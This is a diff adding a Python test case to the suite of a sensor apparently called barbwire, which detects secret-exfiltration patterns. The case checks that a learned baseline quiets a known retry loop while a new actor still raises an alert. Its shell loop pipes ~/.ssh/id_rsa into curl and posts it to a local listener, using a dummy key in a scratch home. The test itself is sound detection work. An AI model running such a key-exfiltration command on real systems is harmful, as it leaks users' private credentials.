@@ -179,5 +179,73 @@ def case_crawler():
             x.close()
 
 
+def case_learned_retry_loop():
+    """The retry loop, learned first (`barbwire learn` over 3 tries of the same
+    `cat | curl` to the same listener), then run 50 times under `run --baseline`:
+    no alert AND no summary of the session, because the baseline is applied before
+    rate limiting (a quieted correlation opens no incident). The stop line says the
+    baseline saw and suppressed at least 50 correlations. Positive control in the
+    same sensor: python (not learned) reads the same key and connects: an alert
+    whose baseline verdict is "new"."""
+    h.require_root_and_sensor()
+    which_real("curl"), which_real("cat"), which_real("bash")
+    ws = h.Workspace()
+    lst = h.HttpListener("127.0.0.1")
+    learner = sensor = None
+    try:
+        home = make_home(ws)
+        base = ws.path("baseline.json")
+
+        def loop(n):
+            return h.Shell(f'for i in $(seq {n}); do cat $HOME/.ssh/id_rsa | curl -sS -o /dev/null '
+                           f'--max-time 10 --data-binary @- http://127.0.0.1:{lst.port}/; done', env=shell_env(home))
+
+        learner = h.Learner(BW, base)
+        learner.start().wait_ready()
+        loop(3).wait(timeout=60)
+        time.sleep(0.5)  # events are drained every 100 ms
+        learner.stop_cleanly()
+        check(learner.wait_stderr("barbwire: learned ", timeout=1) is not None,
+              f"learn printed no summary:\n{learner.stderr()}")
+        with open(base) as f:
+            doc = json.load(f)
+        curl = which_real("curl")
+        learned = [e for e in doc.get("entries", []) if e.get("exe") == curl and e.get("port") == lst.port]
+        check(learned, f"the baseline has no entry for {curl} to port {lst.port}: {json.dumps(doc)[:2000]}")
+
+        sensor = h.Sensor(BW, None, extra=("--baseline", base))
+        sensor.start().wait_ready()
+        sh = loop(ITERATIONS)
+        sh.wait(timeout=90)
+        got = [b for b in lst.bodies() if b == DUMMY_KEY.encode()]
+        check(len(got) == 3 + ITERATIONS, f"the listener got the key {len(got)} times, expected {3 + ITERATIONS}")
+        key = os.path.join(home, ".ssh", "id_rsa")
+        actor = h.Actor(h.read_snippet(key) + h.tcp_connect_snippet("127.0.0.1", lst.port), new_session=True)
+        actor.run()
+        deadline = time.monotonic() + 10
+        while time.monotonic() < deadline and not sensor.alerts_in_session(actor.timeout_pid):
+            time.sleep(0.05)
+        sensor.stop_cleanly()
+        quiet = sensor.alerts_in_session(sh.leader)
+        check(quiet == [], f"the learned retry loop alerted:\n{dump(quiet)}")
+        _, summaries = split(sensor.alerts())
+        mine = [x for x in summaries if (x.get("scope") or {}).get("id") == sh.leader]
+        check(mine == [], f"a summary counted the quieted retry loop:\n{dump(mine)}")
+        control = [a for a in sensor.alerts_in_session(actor.timeout_pid) if a.get("type") != "summary"]
+        check(len(control) == 1, f"positive control: expected 1 alert of python's session, got:\n{dump(control)}")
+        check(control[0].get("baseline") == "new", f"control verdict {control[0].get('baseline')!r}, expected new")
+        line = sensor.wait_stderr(f"barbwire: baseline {base}: ", timeout=1)
+        check(line is not None, f"no baseline summary line at stop:\n{sensor.stderr()}")
+        seen = int(line.split(": ")[2].split(" seen")[0])
+        check(seen >= ITERATIONS, f"baseline line says {seen} seen, expected at least {ITERATIONS}: {line}")
+        print(f"learned retry loop: 0 alerts, 0 summaries; {line}")
+    finally:
+        for x in (learner, sensor):
+            if x is not None:
+                x.kill()
+        lst.close()
+        ws.cleanup()
+
+
 if __name__ == "__main__":
     sys.exit(h.run_cases(globals(), __doc__, "ratelimit_test"))
